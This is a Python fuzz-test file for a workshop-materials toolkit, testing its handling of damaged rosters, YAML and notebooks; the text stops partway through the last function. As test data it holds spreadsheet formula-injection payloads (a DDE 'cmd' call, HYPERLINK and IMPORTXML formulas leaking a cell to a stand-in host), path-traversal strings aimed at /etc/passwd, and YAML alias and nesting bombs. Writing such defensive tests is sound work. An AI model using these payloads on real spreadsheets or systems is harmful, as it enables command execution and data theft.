"""A seeded fuzzer over hostile and sloppy input: every case must end in a located error or a correct result.

Each case copies a small project (tests/roots/people, quiz or notebooks), damages one input the way
people and programs damage files (wrong types, duplicate keys, deep nesting, alias bombs, BOM, CRLF,
tabs, control characters, Latin-1/UTF-16, binary files, formulas, impossible dates, huge rows, path
tricks, ...), runs one ``workshop`` command in-process and classifies what happened:

- ``located``   exit 2 with ``file:line:col`` and a hint, no traceback
- ``correct``   exit 0 and the output passes the case's check (e.g. formulas came out as text)
- ``traceback`` an exception escaped
- ``hang``      the command ran longer than the time limit
- ``unlocated`` exit 2 (or another code) without ``file:line:col`` or without a hint
- ``wrong``     exit 0 where an error was due, or the output failed the case's check

The same seed gives the same cases (``random.Random(f"{seed}:{index}")``).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import random
import re
import shutil
import signal
import time
import traceback
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

ROOTS = Path(__file__).resolve().parent.parent / "roots"
OUTCOMES = ("located", "correct", "traceback", "hang", "unlocated", "wrong")
LOCATED = re.compile(r"\S+:\d+:\d+: ")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HEADER = ["No", "Nama", "Gelar Depan", "Gelar Belakang", "NIP", "Pangkat/Golongan", "Jabatan", "Instansi", "Peran"]
PEOPLE = [
    ["1", "Budi Santoso", "", "S.Sos.", "198811112012121001", "Penata (III/c)", "Pranata Humas", "Dinas Kominfo", "peserta"],
    ["2", "Siti Aminah", "Dra.", "M.Si.", "197905052005012002", "Pembina (IV/a)", "Kepala Bagian", "Setda", "narasumber"],
    ["3", "Ma'ruf O'Neil", "", "S.H.", "", "", "Wartawan", "PT A & B <Tbk>", "peserta"],
    ["4", "Yohana Ndoen", "", "", "", "", "Anggota", "Tim Penggerak PKK", "panitia"],
    ["5", "Dewi Anggraini", "", "S.E.", "199001012015032001", "Penata Muda (III/a)", "Analis", "Bappeda", "peserta"],
]
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1,1)", "\t=1+1", "\r=1+1", "=1+1", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"]
ILLEGAL_CHARS = ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x0e", "\x1b", "\x1f", "\ufffe", "\uffff"]
ODD_LEGAL_CHARS = ["\u200d", "\u200f", "\u200e", "\u202b", "\u00a0", "\u200b", "\x7f", "\u0300", "\U0001F600"]


@dataclass
class Plan:
    """What a case does: which base project, what command, what must come out."""

    base: str  # people, quiz or notebooks
    args: list[str]
    expect: str  # "error", "ok" or "any"
    check: Callable[[Path], str | None] | None = None  # for exit 0: None when right, else what is wrong
    note: str = ""


@dataclass
class Outcome:
    """The classified result of one case."""

    index: int
    family: str
    kind: str
    note: str
    seconds: float
    detail: str = ""


@dataclass
class Tally:
    """Counts of outcomes per family."""

    counts: dict[str, dict[str, int]] = field(default_factory=dict)
    failures: list[Outcome] = field(default_factory=list)
    slowest: dict[str, float] = field(default_factory=dict)

    def add(self, outcome: Outcome) -> None:
        """Count one outcome; keep the bad ones."""
        row = self.counts.setdefault(outcome.family, dict.fromkeys(OUTCOMES, 0))
        row[outcome.kind] += 1
        self.slowest[outcome.family] = max(self.slowest.get(outcome.family, 0.0), outcome.seconds)
        if outcome.kind not in ("located", "correct"):
            self.failures.append(outcome)

    def table(self) -> str:
        """The counts as a fixed-width text table with a total row."""
        lines = [f"{'family':<16}" + "".join(f"{k:>10}" for k in OUTCOMES) + f"{'slowest s':>11}"]
        totals = dict.fromkeys(OUTCOMES, 0)
        for family in sorted(self.counts):
            row = self.counts[family]
            lines.append(f"{family:<16}" + "".join(f"{row[k]:>10}" for k in OUTCOMES) + f"{self.slowest[family]:>11.1f}")
            for k in OUTCOMES:
                totals[k] += row[k]
        lines.append(f"{'total':<16}" + "".join(f"{totals[k]:>10}" for k in OUTCOMES))
        return "\n".join(lines)


# ---------------------------------------------------------------- file helpers

def write_roster(path: Path, rows: list[list[str]], header: list[str] = HEADER, separator: str = ";",
                 encoding: str = "utf-8", newline: str = "\n") -> None:
    """Write a roster CSV the way spreadsheet programs do."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=separator, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))


def write_xlsx(path: Path, rows: list[list], header: list[str] = HEADER) -> None:
    """Write rows (cells may be numbers) into a one-sheet workbook."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    workbook.save(path)


def exact_number_cell(path: Path, placeholder: str, digits: str) -> None:
    """Turn the text cell ``placeholder`` of a workbook into a number cell holding ``digits`` exactly."""
    import zipfile

    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode("utf-8")
    sheet = re.sub(rf'<c r="([A-Z]+\d+)" t="inlineStr"><is><t>{placeholder}</t></is></c>',
                   lambda m: f'<c r="{m.group(1)}" t="n"><v>{digits}</v></c>', sheet)
    parts["xl/worksheets/sheet1.xml"] = sheet.encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def set_curriculum_key(root: Path, key: str, value: str) -> None:
    """Replace (or add) a top-level ``key: value`` line of the people curriculum."""
    path = root / "curriculum" / "sertifikat-contoh.yaml"
    text = path.read_text(encoding="utf-8")
    line = f"{key}: {json.dumps(value)}"
    if re.search(rf"^{key}:.*$", text, re.M):
        text = re.sub(rf"^{key}:.*$", lambda _m: line, text, count=1, flags=re.M)
    else:
        text = text.replace("days:\n", f"{line}\ndays:\n", 1)
    path.write_text(text, encoding="utf-8")


def roster_names(root: Path) -> list[str] | str:
    """The names the toolkit reads from the people roster, or the error text."""
    from builder.sources.roster import load_roster

    roster, diagnostics = load_roster(root / "rosters" / "peserta.csv")
    if roster is None:
        return "; ".join(d.format() for d in diagnostics)
    return [p.name for p in roster.people]


def formula_cells(root: Path) -> list[str]:
    """Every cell of every .csv and .xlsx under ``root`` that a spreadsheet would run as a formula."""
    from openpyxl import load_workbook

    found = []
    for path in sorted(root.rglob("*")):
        if path.suffix == ".csv" and "rosters" not in path.parts and "kumpulan" not in path.parts:
            text = path.read_bytes().decode("utf-8-sig")
            for row in csv.reader(io.StringIO(text)):
                found += [f"{path.name}: {c!r}" for c in row if c.startswith(FORMULA_STARTS)]
        elif path.suffix == ".xlsx" and "rosters" not in path.parts and "kumpulan" not in path.parts:
            workbook = load_workbook(path)
            for sheet in workbook.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)):
                            found.append(f"{path.name}!{cell.coordinate}: {cell.value!r}")
    return found


def check_no_formulas(root: Path) -> str | None:
    """The check of the formula family: nothing we wrote is a formula."""
    cells = formula_cells(root)
    return f"formula cells written: {cells[:3]}" if cells else None


# ---------------------------------------------------------------- YAML mutations

def _yaml_paths(data, path=()) -> list[tuple]:
    """Every key/index path in nested data."""
    paths = [path] if path else []
    if isinstance(data, dict):
        for key, value in data.items():
            paths += _yaml_paths(value, path + (key,))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            paths += _yaml_paths(value, path + (index,))
    return paths


def _yaml_edit(path: Path, edit: Callable) -> None:
    """Load a YAML file round-trip, apply ``edit(data)``, write it back."""
    from ruamel.yaml import YAML

    yaml = YAML(typ="rt")
    data = yaml.load(path.read_text(encoding="utf-8"))
    edit(data)
    buffer = io.StringIO()
    yaml.dump(data, buffer)
    path.write_text(buffer.getvalue(), encoding="utf-8")


def _pick_yaml(rng: random.Random, root: Path) -> Path:
    return rng.choice([root / "curriculum" / "sertifikat-contoh.yaml", root / "modules" / "contoh.yaml"])


def _container(data, path):
    for part in path[:-1]:
        data = data[part]
    return data


WRONG_VALUES = [[], {}, [1, 2], {"a": 1}, 0, -5, 3.5, True, None, "", "x" * 300, "2019-09-24", "08.00", "⚠️ teks"]


def fam_wrong_types(rng: random.Random, root: Path) -> Plan:
    """Replace one value of a module or curriculum by a value of another type."""
    target = _pick_yaml(rng, root)
    value = rng.choice(WRONG_VALUES)

    def edit(data):
        path = rng.choice(_yaml_paths(data))
        _container(data, path)[path[-1]] = value
    _yaml_edit(target, edit)
    return Plan("people", ["build", "--only", "agenda,handouts"], "any", note=f"{target.name} <- {value!r}"[:80])


def fam_missing_keys(rng: random.Random, root: Path) -> Plan:
    """Delete one key (or list item) of a module or curriculum."""
    target = _pick_yaml(rng, root)

    def edit(data):
        path = rng.choice(_yaml_paths(data))
        del _container(data, path)[path[-1]]
    _yaml_edit(target, edit)
    return Plan("people", ["build", "--only", "agenda,handouts"], "any", note=target.name)


def fam_duplicate_keys(rng: random.Random, root: Path) -> Plan:
    """Repeat one key line of a module or curriculum (same indentation, same mapping)."""
    target = _pick_yaml(rng, root)
    lines = target.read_text(encoding="utf-8").splitlines(keepends=True)
    candidates = [i for i, line in enumerate(lines) if re.match(r"^\s*[a-z_]+:\s*\S", line)
                  and not re.match(r"^\s*- ", line)]
    index = rng.choice(candidates)
    lines.insert(index + 1, lines[index])
    target.write_text("".join(lines), encoding="utf-8")
    return Plan("people", ["validate"], "error", note=f"{target.name}:{index + 2}")


def fam_deep_nesting(rng: random.Random, root: Path) -> Plan:
    """Add a deeply nested value in flow or block style."""
    target = _pick_yaml(rng, root)
    depth = rng.choice([30, 100, 500, 2000, 20000])
    if rng.random() < 0.5:
        text = "catatan: " + "[" * depth + "]" * depth + "\n"
    else:
        depth = min(depth, 3000)
        text = "catatan:\n" + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(depth)) + "  " * (depth + 1) + "x: 1\n"
    with target.open("a", encoding="utf-8") as handle:
        handle.write(text)
    return Plan("people", ["validate"], "error", note=f"{target.name} depth {depth}")


def fam_alias_bombs(rng: random.Random, root: Path) -> Plan:
    """Add a 'billion laughs' alias bomb of random width and depth."""
    target = _pick_yaml(rng, root)
    width, depth = rng.choice([3, 5, 9, 10]), rng.choice([2, 4, 6, 9, 12])
    lines = ["lol0: &lol0 \"lol\""]
    for level in range(1, depth + 1):
        lines.append(f"lol{level}: &lol{level} [" + ", ".join([f"*lol{level - 1}"] * width) + "]")
    with target.open("a", encoding="utf-8") as handle:
        handle.write("\n" + "\n".join(lines) + "\n")
    small = width ** depth < 100_000
    return Plan("people", ["validate"], "any" if small else "error", note=f"{width}^{depth}")


def fam_bom_crlf_tabs(rng: random.Random, root: Path) -> Plan:
    """Byte-order marks, Windows line ends and tabs in YAML and CSV sources."""
    choice = rng.choice(["yaml-bom", "yaml-crlf", "yaml-tabs", "csv-bom", "csv-crlf", "csv-tab-separator",
                         "csv-cr-only", "yaml-bom-crlf"])
    if choice.startswith("yaml"):
        target = _pick_yaml(rng, root)
        text = target.read_text(encoding="utf-8")
        if "crlf" in choice:
            text = text.replace("\n", "\r\n")
        if "bom" in choice:
            text = "\ufeff" + text
        if choice == "yaml-tabs":
            lines = text.splitlines(keepends=True)
            indented = [i for i, line in enumerate(lines) if line.startswith("  ")]
            index = rng.choice(indented)
            lines[index] = "\t" + lines[index].lstrip(" ")
            text = "".join(lines)
        target.write_bytes(text.encode("utf-8"))
        return Plan("people", ["validate"], "error" if choice == "yaml-tabs" else "ok", note=choice)
    path = root / "rosters" / "peserta.csv"
    expected = [row[1] for row in PEOPLE]
    separator = "\t" if choice == "csv-tab-separator" else rng.choice([";", ","])
    newline = {"csv-crlf": "\r\n", "csv-cr-only": "\r"}.get(choice, "\n")
    write_roster(path, PEOPLE, separator=separator, encoding="utf-8-sig" if choice == "csv-bom" else "utf-8",
                 newline=newline)
    (root / "rosters" / "kehadiran.csv").unlink()
    set_curriculum_key(root, "attendance", "")
    return Plan("people", ["validate"], "ok", lambda r: _names_equal(r, expected), note=choice)


def _names_equal(root: Path, expected: list[str]) -> str | None:
    names = roster_names(root)
    return None if names == expected else f"names read as {names!r}"[:300]


def fam_control_chars(rng: random.Random, root: Path) -> Plan:
    """Control characters (illegal in Office files) and odd-but-legal characters in sources and rosters."""
    legal = rng.random() < 0.35
    char = rng.choice(ODD_LEGAL_CHARS if legal else ILLEGAL_CHARS)
    where = rng.choice(["roster", "yaml-escaped", "yaml-raw"])
    if where == "roster":
        rows = [list(r) for r in PEOPLE]
        row = rng.randrange(len(rows))
        column = rng.choice([1, 6, 7])
        rows[row][column] = rows[row][column][:3] + char + rows[row][column][3:]
        write_roster(root / "rosters" / "peserta.csv", rows)
        set_curriculum_key(root, "attendance", "")
        expected = [r[1] for r in rows]
        check = (lambda r: _names_equal(r, expected)) if legal else None
        return Plan("people", ["build", "--only", "certificates"], "ok" if legal else "error", check,
                    note=f"roster {char!r}")
    target = _pick_yaml(rng, root)
    text = target.read_text(encoding="utf-8")
    if where == "yaml-escaped":
        escaped = f"\\U{ord(char):08x}" if ord(char) > 0xFFFF else f"\\u{ord(char):04x}"
        text = re.sub(r"^title: .*$", lambda _m: f'title: "Judul{escaped}Aneh"', text, count=1, flags=re.M)
    else:
        text = re.sub(r"^title: (.*)$", lambda m: f"title: {m.group(1)}{char}", text, count=1, flags=re.M)
    target.write_text(text, encoding="utf-8", errors="surrogatepass")
    legal = legal and not (where == "yaml-raw" and char == "\x7f")  # YAML allows DEL only escaped
    return Plan("people", ["build", "--only", "agenda,handouts"], "ok" if legal else "error", note=f"{where} {char!r}")


ENCODINGS = ["latin-1", "cp1252", "utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "utf-8"]


def fam_encodings(rng: random.Random, root: Path) -> Plan:
    """Rosters and sources saved as Latin-1, Windows-1252 or UTF-16."""
    encoding = rng.choice(ENCODINGS)
    if rng.random() < 0.75:
        rows = [list(r) for r in PEOPLE]
        rows[0][1] = rng.choice(["Muhammad Ḍiyā’", "Agnès Müller", "Renée “Dede” Sitompul", "José Ñuñez", "Budi Santoso"])
        if encoding in ("latin-1",):
            rows[0][1] = rows[0][1].encode("latin-1", "ignore").decode("latin-1")
        if encoding == "cp1252":
            rows[0][1] = rows[0][1].encode("cp1252", "ignore").decode("cp1252")
        write_roster(root / "rosters" / "peserta.csv", rows, separator=rng.choice([";", ",", "\t"]), encoding=encoding)
        set_curriculum_key(root, "attendance", "")
        expected = [r[1] for r in rows]
        return Plan("people", ["validate"], "ok", lambda r: _names_equal(r, expected), note=f"roster {encoding}")
    target = _pick_yaml(rng, root)
    text = target.read_text(encoding="utf-8").replace("Contoh", "Contoh Désa", 1)
    target.write_bytes(text.encode(encoding, "replace"))
    ok = encoding in ("utf-8", "utf-8-sig")
    return Plan("people", ["validate"], "ok" if ok else "error", note=f"{target.name} {encoding}")


BINARIES = {
    "random": lambda rng: bytes(rng.randrange(256) for _ in range(rng.choice([10, 500, 5000]))),
    "zip": lambda rng: b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(300)),
    "png": lambda rng: b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(100)),
    "pdf": lambda rng: b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + bytes(rng.randrange(256) for _ in range(200)),
    "empty": lambda rng: b"",
    "nul": lambda rng: b"\x00" * 64,
    "text": lambda rng: "Nama;NIP\nBudi;1\n".encode(),
}


def fam_binary_files(rng: random.Random, root: Path) -> Plan:
    """Replace one input with a binary file, a fake image, workbook or document."""
    kind = rng.choice(sorted(BINARIES))
    data = BINARIES[kind](rng)
    target = rng.choice(["curriculum", "module", "roster-csv", "roster-xlsx", "attendance", "logo", "image", "template"])
    args = ["validate"]
    expect = "error"
    if target == "curriculum":
        (root / "curriculum" / "sertifikat-contoh.yaml").write_bytes(data)
    elif target == "module":
        (root / "modules" / "contoh.yaml").write_bytes(data)
    elif target == "roster-csv":
        (root / "rosters" / "peserta.csv").write_bytes(data)
        expect = "any" if kind == "text" else "error"
    elif target == "roster-xlsx":
        (root / "rosters" / "peserta.xlsx").write_bytes(data)
        set_curriculum_key(root, "roster", "rosters/peserta.xlsx")
    elif target == "attendance":
        (root / "rosters" / "kehadiran.csv").write_bytes(data)
        expect = "any" if kind == "text" else "error"
    elif target == "logo":
        (root / "rosters" / "logo.png").write_bytes(data)
        _add_branding(root, "logo", "rosters/logo.png")
        args = ["build", "--only", "agenda"]
    elif target == "template":
        (root / "rosters" / "master.pptx").write_bytes(data)
        _add_branding(root, "slides_template", "rosters/master.pptx")
        args = ["build", "--only", "slides"]
    else:
        (root / "modules" / "assets").mkdir(exist_ok=True)
        (root / "modules" / "assets" / "gambar.png").write_bytes(data)
        _add_image(root, "assets/gambar.png")
        args = ["build", "--only", "handouts"]
    return Plan("people", args, expect, note=f"{target} <- {kind}")


def _add_branding(root: Path, key: str, value: str) -> None:
    path = root / "curriculum" / "sertifikat-contoh.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("days:\n", f"branding:\n  {key}: {json.dumps(value)}\ndays:\n", 1), encoding="utf-8")


def _add_image(root: Path, relative: str) -> None:
    def edit(data):
        data["sections"][0]["image"] = {"path": relative, "caption": "Gambar"}
    _yaml_edit(root / "modules" / "contoh.yaml", edit)


def fam_formulas(rng: random.Random, root: Path) -> Plan:
    """Formulas typed into roster cells must come out as text in every csv and xlsx we write."""
    rows = [list(r) for r in PEOPLE]
    for _ in range(rng.randint(1, 4)):
        row, column = rng.randrange(len(rows)), rng.choice([1, 3, 6, 7])
        rows[row][column] = rng.choice(FORMULAS).replace("\r", "").replace("\t", "") if column == 1 else rng.choice(FORMULAS)
    if rng.random() < 0.5:
        write_xlsx(root / "rosters" / "peserta.xlsx", rows)
        set_curriculum_key(root, "roster", "rosters/peserta.xlsx")
    else:
        write_roster(root / "rosters" / "peserta.csv", rows)
    set_curriculum_key(root, "attendance", "")
    return Plan("people", ["build", "--only", "certificates"], "any", check_no_formulas, note="roster formulas")


IMPOSSIBLE_DATES = ["2019-02-30", "2019-13-01", "2019-00-10", "2019-04-31", "0", "-1", "20190924", "2019-9-24",
                    "24-09-2019", "2019-09-24T08:00:00", "2019-09-24 08:00", "'2019-02-29'", "true", "[]", "99999-01-01",
                    "0000-01-01", "'2019-02-30'", "2019-09-24 25:00"]


def fam_impossible_dates(rng: random.Random, root: Path) -> Plan:
    """Impossible or mistyped dates in a curriculum (days and certificate date)."""
    value = rng.choice(IMPOSSIBLE_DATES)
    path = root / "curriculum" / "sertifikat-contoh.yaml"
    text = path.read_text(encoding="utf-8")
    if rng.random() < 0.6:
        text = text.replace("  - date: 2019-09-24", f"  - date: {value}", 1)
    else:
        text = text.replace("  place: Sungai Contoh\n", f"  place: Sungai Contoh\n  date: {value}\n", 1)
    path.write_text(text, encoding="utf-8")
    return Plan("people", ["validate"], "error", note=value)


def _nip(index: int) -> str:
    """A valid, unique NIP for synthetic person ``index``."""
    born = 1960 + index % 35
    return f"{born}{1 + index % 12:02d}{1 + index % 28:02d}{born + 22}{1 + (index // 12) % 12:02d}{1 + index % 2}{index % 1000:03d}"


def fam_huge_rows(rng: random.Random, root: Path) -> Plan:
    """Thousands of roster rows, a huge cell, a huge YAML string or a large file."""
    kind = rng.choice(["rows", "rows", "cell", "yaml-string", "wide"])
    if kind == "rows":
        count = rng.choice([1_000, 5_000, 10_000, 12_000])
        rows = [[str(i + 1), f"Peserta {i:05d} Santoso", "", "", _nip(i), "", "Staf", f"Instansi {i % 40}", "peserta"]
                for i in range(count)]
        write_roster(root / "rosters" / "peserta.csv", rows)
        set_curriculum_key(root, "attendance", "")
        return Plan("people", ["validate"], "ok", lambda r: None if len(roster_names(r)) == count else "rows lost",
                    note=f"{count} rows")
    if kind == "cell":
        rows = [list(r) for r in PEOPLE]
        rows[1][7] = "Dinas " * rng.choice([2_000, 40_000])
        write_roster(root / "rosters" / "peserta.csv", rows)
        return Plan("people", ["validate"], "error", note="huge cell")
    if kind == "wide":
        header = HEADER + [f"Kolom {i}" for i in range(3000)]
        rows = [r + ["x"] * 3000 for r in PEOPLE]
        write_roster(root / "rosters" / "peserta.csv", rows, header=header)
        set_curriculum_key(root, "attendance", "")
        expected = [r[1] for r in PEOPLE]
        return Plan("people", ["validate"], "ok", lambda r: _names_equal(r, expected), note="3000 columns")
    size = rng.choice([50_000, 3_000_000])
    path = root / "modules" / "contoh.yaml"
    path.write_text(path.read_text(encoding="utf-8") + "catatan: " + "a" * size + "\n", encoding="utf-8")
    return Plan("people", ["validate"], "error", note=f"string {size}")


PATH_TRICKS = [("/etc/passwd", "error"), ("../../etc/passwd", "error"), ("rosters/../../x.csv", "error"),
               ("rosters", "error"), ("~/peserta.csv", "error"), ("C:\\data\\peserta.csv", "error"),
               ("rosters/./peserta.csv", "ok"), ("rosters/../rosters/peserta.csv", "ok"), ("link", "error"),
               ("rosters/tidak-ada.csv", "error"), ("", "ok"), ("\\\\server\\share\\x.csv", "error"),
               ("rosters/peserta.csv\x00.txt", "error"), ("/dev/zero", "error"), ("rosters/", "error")]


def fam_path_tricks(rng: random.Random, root: Path) -> Plan:
    """Roster, attendance and logo paths that escape the project or name something odd."""
    value, expect = rng.choice(PATH_TRICKS)
    key = rng.choice(["roster", "attendance", "logo"])
    if value == "link":
        outside = root.parent / f"outside-{rng.randrange(10**6)}.csv"
        outside.write_text("Nama\nRahasia\n", encoding="utf-8")
        (root / "rosters" / "tautan.csv").symlink_to(outside)
        value = "rosters/tautan.csv"
    if key == "logo":
        _add_branding(root, "logo", value.replace("peserta.csv", "logo.png"))
        if expect == "ok" and value:
            from PIL import Image

            Image.new("RGB", (8, 8), "white").save(root / "rosters" / "logo.png")
    else:
        set_curriculum_key(root, key, value)
    return Plan("people", ["validate"], expect, note=f"{key}: {value!r}")


PATTERNS = [("800/{seq:03d}/Humpro/{month_roman}/{year}", "ok"), ("SERT/{year}", "error"), ("{seq}/{tahun}", "error"),
            ("{seq:03d}/{year", "error"), ("{seq:xyz}", "error"), ("{}", "error"), ("{0}", "error"),
            ("{seq.real}", "error"), ("{seq!r}", "ok"), ("{seq:>5}/{month}", "ok"), ("{{seq}}", "error"),
            ("{seq:03d}/{month_roman:03d}", "error"), ("{seq}{seq}", "ok"), ("=HYPERLINK({seq})", "any")]


def fam_number_pattern(rng: random.Random, root: Path) -> Plan:
    """Certificate number patterns without {seq}, with unknown fields or broken braces."""
    pattern, expect = rng.choice(PATTERNS)
    path = root / "curriculum" / "sertifikat-contoh.yaml"
    text = path.read_text(encoding="utf-8")
    text = re.sub(r"number_pattern: .*", lambda _m: f"number_pattern: {json.dumps(pattern)}", text)
    path.write_text(text, encoding="utf-8")
    set_curriculum_key(root, "attendance", "")
    check = check_no_formulas if expect == "any" else _distinct_numbers
    return Plan("people", ["build", "--only", "certificates"], expect, check, note=pattern)


def _distinct_numbers(root: Path) -> str | None:
    text = next(root.rglob("register.csv")).read_text(encoding="utf-8")
    numbers = [row[0] for row in list(csv.reader(io.StringIO(text)))[1:]]
    return None if len(set(numbers)) == len(numbers) else f"repeated certificate numbers {numbers}"


def fam_xlsx_cells(rng: random.Random, root: Path) -> Plan:
    """NIPs stored as numbers, fake workbooks and empty sheets in .xlsx rosters."""
    kind = rng.choice(["nip-int", "nip-float", "fake", "empty", "header-only", "nip-small-float", "dates", "far-cell"])
    rows: list[list] = [list(r) for r in PEOPLE]
    set_curriculum_key(root, "roster", "rosters/peserta.xlsx")
    set_curriculum_key(root, "attendance", "")
    target = root / "rosters" / "peserta.xlsx"
    if kind == "fake":
        target.write_text("Nama;NIP\nBudi;1\n", encoding="utf-8")
        return Plan("people", ["validate"], "error", note=kind)
    if kind == "empty":
        from openpyxl import Workbook

        Workbook().save(target)
        return Plan("people", ["validate"], "error", note=kind)
    if kind == "header-only":
        write_xlsx(target, [])
        return Plan("people", ["validate"], "any", note=kind)
    if kind == "nip-int":  # an exact integer cell, as LibreOffice and Google Sheets write long numbers
        rows[0][4] = "NIP-AS-NUMBER"
        write_xlsx(target, rows)
        exact_number_cell(target, "NIP-AS-NUMBER", PEOPLE[0][4])
        return Plan("people", ["validate"], "ok", lambda r: _nip_read(r, PEOPLE[0][4]), note=kind)
    if kind == "nip-small-float":
        rows[0][4] = float(123456789)
        write_xlsx(target, rows)
        return Plan("people", ["validate"], "error", note=kind)  # not 18 digits: a located NIP error
    if kind == "far-cell":  # one stray cell in column XFD makes the stored sheet size 16,384 columns wide
        from openpyxl import Workbook

        workbook = Workbook()
        workbook.active.append(HEADER)
        for row in rows:
            workbook.active.append(row)
        workbook.active["XFD2"] = "catatan"
        workbook.save(target)
        return Plan("people", ["validate"], "ok", lambda r: _nip_read(r, PEOPLE[0][4]), note=kind)
    if kind == "dates":
        import datetime as dt

        rows[0][7] = dt.datetime(2019, 9, 24)
        write_xlsx(target, rows)
        return Plan("people", ["validate"], "ok", note=kind)
    rows[0][4] = float(rows[0][4])
    write_xlsx(target, rows)
    return Plan("people", ["validate"], "error", note=kind)


def _nip_read(root: Path, expected: str) -> str | None:
    from builder.sources.roster import load_roster

    roster, diagnostics = load_roster(root / "rosters" / "peserta.xlsx")
    if roster is None:
        return f"roster not read: {[d.format() for d in diagnostics]}"
    return None if roster.people[0].nip == expected else f"NIP read as {roster.people[0].nip}"


def fam_attendance(rng: random.Random, root: Path) -> Plan:
    """Duplicate, unknown and odd attendance rows."""
    path = root / "rosters" / "kehadiran.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    kind = rng.choice(["duplicate", "duplicate-differs", "bad-value", "extra-cells", "semicolon", "ok-crlf"])
    if kind.startswith("duplicate"):
        index = rng.randrange(1, len(lines))
        copy = lines[index] if kind == "duplicate" else re.sub(r",1(,|$)", r",0\1", lines[index], count=1)
        lines.insert(rng.randrange(index + 1, len(lines) + 1), copy)
        expect = "error"
    elif kind == "bad-value":
        lines[1] = lines[1].rsplit(",", 1)[0] + "," + rng.choice(["2", "??", "=1+1", "hadir?"])
        expect = "error"
    elif kind == "extra-cells":
        lines[2] = lines[2] + ",1,1,1"
        expect = "error"
    elif kind == "semicolon":
        lines = [";".join(next(csv.reader([line]))) for line in lines]
        expect = "ok"
    else:
        expect = "ok"
    path.write_bytes(("\r\n" if kind == "ok-crlf" else "\n").join(lines).encode("utf-8") + b"\n")
    return Plan("people", ["validate"], expect, note=kind)


def fam_notebooks(rng: random.Random, root: Path) -> Plan:
    """Malformed returned notebooks for `notebooks check` (and a formula in the participant name)."""
    good = (root / "kumpulan" / "baik.ipynb").read_text(encoding="utf-8")
    kind = rng.choice(["truncated", "metadata-list", "module-list", "cells-dict", "source-int", "nbgrader-str",
                       "binary", "empty", "utf16", "formula-name", "nbformat-3", "top-list", "cell-str", "deep"])
    target = root / "kumpulan" / "rusak.ipynb"
    data = json.loads(good)
    expect = "error"
    if kind == "truncated":
        target.write_text(good[: rng.randrange(1, len(good) - 1)], encoding="utf-8")
    elif kind == "binary":
        target.write_bytes(BINARIES["random"](rng))
    elif kind == "empty":
        target.write_bytes(b"")
    elif kind == "utf16":
        target.write_bytes(good.encode("utf-16"))
    elif kind == "deep":
        target.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    elif kind == "top-list":
        target.write_text(json.dumps([data]), encoding="utf-8")
    else:
        if kind == "metadata-list":
            data["metadata"] = ["humas_workshop"]
        elif kind == "module-list":
            data["metadata"]["humas_workshop"] = {"module": ["latihan-notebook"]}
        elif kind == "cells-dict":
            data["cells"] = {"0": data["cells"][0]}
        elif kind == "source-int":
            data["cells"][rng.randrange(len(data["cells"]))]["source"] = 42
        elif kind == "nbgrader-str":
            data["cells"][rng.randrange(len(data["cells"]))]["metadata"]["nbgrader"] = "grade"
        elif kind == "nbformat-3":
            data["nbformat"] = 3
        elif kind == "cell-str":
            data["cells"][0] = "bukan sel"
        elif kind == "formula-name":
            for cell in data["cells"]:
                if cell.get("id") == "nama-peserta":
                    cell["source"] = f"nama_peserta = {json.dumps(rng.choice(FORMULAS))}"
            expect = "ok"
        target.write_text(json.dumps(data), encoding="utf-8")
    out = root / "hasil" / "skor.csv"
    return Plan("notebooks", ["notebooks", "check", str(target), "--out", str(out)], expect,
                check_no_formulas, note=kind)


def fam_responses(rng: random.Random, root: Path) -> Plan:
    """Quiz response files: formulas in names, encodings, separators, fake workbooks, control characters."""
    kind = rng.choice(["formula-xlsx", "formula-csv", "latin1-csv", "utf16-csv", "tab-csv", "fake-xlsx", "binary-csv",
                       "control-char", "undecidable"])
    name = rng.choice(FORMULAS) if kind.startswith("formula") else rng.choice(["José Ñuñez", "Agnès Müller", "Budi"])
    header = ["No", "Nama", "NIP", "Instansi", "Varian", "1", "2", "3"]
    rows = [["1", name, "", rng.choice(FORMULAS) if kind.startswith("formula") else "Dinas", "A", "A", "B", "A"],
            ["2", "Siti", "", "Bappeda", "B", "B", "B", "B"]]
    out = root / "hasil" / "nilai.xlsx"
    expect, check = "ok", check_no_formulas
    if kind == "formula-xlsx":
        target = root / "kumpulan" / "kuis-pre.xlsx"
        write_xlsx(target, rows, header)
    elif kind == "fake-xlsx":
        target = root / "kumpulan" / "kuis-pre.xlsx"
        target.write_bytes(BINARIES[rng.choice(["zip", "random", "text"])](rng))
        expect = "error"
    else:
        target = root / "kumpulan" / "kuis-pre.csv"
        encoding = {"latin1-csv": "latin-1", "utf16-csv": "utf-16"}.get(kind, "utf-8")
        if kind == "control-char":
            rows[1][1] = "Si\x0bti"
            expect = "error"
        separator = "\t" if kind == "tab-csv" else rng.choice([";", ","])
        write_roster(target, rows, header=header, separator=separator, encoding=encoding)
        if kind == "binary-csv":
            target.write_bytes(BINARIES["random"](rng) + b"\x00")
